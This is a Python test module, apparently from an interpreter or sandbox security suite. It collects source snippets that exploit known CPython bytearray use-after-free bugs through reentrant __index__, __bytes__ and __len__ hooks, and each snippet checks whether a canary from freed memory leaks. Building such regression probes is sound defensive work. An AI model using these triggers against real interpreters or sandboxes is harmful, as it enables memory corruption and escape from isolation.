"""C asks a cell's object for its `__index__`, `__bytes__` or `__len__` while it holds a bytearray's memory.

The hook lets the bytearray go of its memory, and has another object take it: gh-142557, gh-142560 and their kind.
"""

import sys

_TAKE = """
b = bytearray(b"A" * 200)
taken = []
def take():
    if not taken:
        {let_go}
        taken.extend([bytearray(b"Z" * 200) for _ in range(20)])
class S:
    def __index__(self):
        take()
        return 0
    def __bytes__(self):
        take()
        return b"AA"
class Text(str):
    def __len__(self):
        take()
        return 1
"""
_READ = _TAKE.format(let_go="b.clear()")
_WRITTEN = _TAKE.format(let_go="b.extend(bytes(150))")
_LOOT = """
LOOT = CANARY if any(each != b"Z" * 200 for each in taken) else None
"""

_LATE = """
class P:
    pass
class V:
    def __index__(self):
        def index(self):
            take()
            return 90
        P.__index__ = index
        return 0
"""

ADVISORY = ""
GUARANTEE = "no-reflection"
ATTACKS = {
    "modulo": _READ
    + """
b[:2] = b"%s"
LOOT = CANARY if b"Z" in b % S() else None
""",
    "modulo_by_its_name": _READ
    + """
b[:2] = b"%s"
LOOT = CANARY if b"Z" in b.__mod__(S()) else None
""",
    "modulo_of_a_derived_class": _READ
    + """
class B(bytearray):
    pass
b = B(b)
b[:2] = b"%s"
LOOT = CANARY if b"Z" in super(B, b).__mod__(S()) else None
""",
    "hexadecimal": _READ
    + """
LOOT = CANARY if "5a" in b.hex(Text("-")) else None
""",
    "number_to_find": _READ
    + """
class N:
    def __index__(self):
        take()
        return 90
LOOT = CANARY if b.find(N()) >= 0 else None
""",
    "number_in": _READ
    + """
class N:
    def __index__(self):
        take()
        return 90
LOOT = CANARY if N() in b else None
""",
    "item_by_an_index_that_was_set_later": _WRITTEN
    + """
class N:
    pass
def index(self):
    take()
    return 0
N.__index__ = index
b[3] = N()
"""
    + _LOOT,
    "item": _WRITTEN + "\nb[3] = S()\n" + _LOOT,
    "item_of_a_derived_class": """
class B(bytearray):
    pass
"""
    + _WRITTEN
    + """
b = B(b)
b[3] = S()
"""
    + _LOOT,
    "item_by_a_named_tuple": _WRITTEN
    + """
from typing import NamedTuple
class Hook:
    def __set_name__(self, owner, name):
        b[3] = owner(1)
class N(NamedTuple):
    number: int
    def __index__(self):
        take()
        return 0
    hook = Hook()
if not taken:  # before Python 3.13, a NamedTuple calls no such hook
    b[3] = N(1)
"""
    + _LOOT,
    "item_by_its_name": _WRITTEN + "\nbytearray.__setitem__(b, 3, S())\n" + _LOOT,
    "item_by_a_method_that_was_taken_early": "put = bytearray.__setitem__\n" + _WRITTEN + "\nput(b, S(), 3)\n" + _LOOT,
    "number_of_a_class_that_gets_an_index": _READ + _LATE + "\nLOOT = CANARY if b.find(P(), V()) >= 0 else None\n",
    "bytes_with_an_index": _READ
    + """
class B(bytes):
    def __index__(self):
        take()
        return 90
LOOT = CANARY if B(b"zz") in b else None
""",
    "slice_with_steps": _WRITTEN + "\ndel b[S()::3]\n" + _LOOT,
    # What comes first lies in no memory of the bytearray's, and what it shows in its place nobody wrote there.
    "extend_by_items_that_say_there_are_none": """
class Items:
    def __iter__(self):
        return self
    def __next__(self):
        if left:
            return left.pop()
        raise StopIteration
    def __length_hint__(self):
        return 0
left = [66, 65]
b = bytearray()
b.extend(Items())
LOOT = CANARY if b != b"AB" else None
""",
    "extend_by_a_list_that_says_it_is_empty": """
class Items(list):
    def __len__(self):
        return 0
b = bytearray()
bytearray.extend(b, Items(b"AB"))
LOOT = CANARY if b != b"AB" else None
""",
}
if sys.version_info < (3, 13):
    ATTACKS |= {
        f"where_to_{name}": _READ + f"\nLOOT = CANARY if b.{name}(b'Z', S()) >= {least} else None\n"
        for name, least in {"find": 0, "rfind": 0, "index": 0, "rindex": 0, "count": 1}.items()
    }

if sys.version_info < (3, 11, 7):
    _JOIN = """
class Items:
    def __iter__(self):
        take()
        return iter([b"x", b"y"])
"""
    ATTACKS |= {
        "join": _READ + _JOIN + 'LOOT = CANARY if b"Z" in b.join(Items()) else None\n',
        "join_by_its_name": _READ + _JOIN + 'LOOT = CANARY if b"Z" in bytearray.join(b, Items()) else None\n',
    }
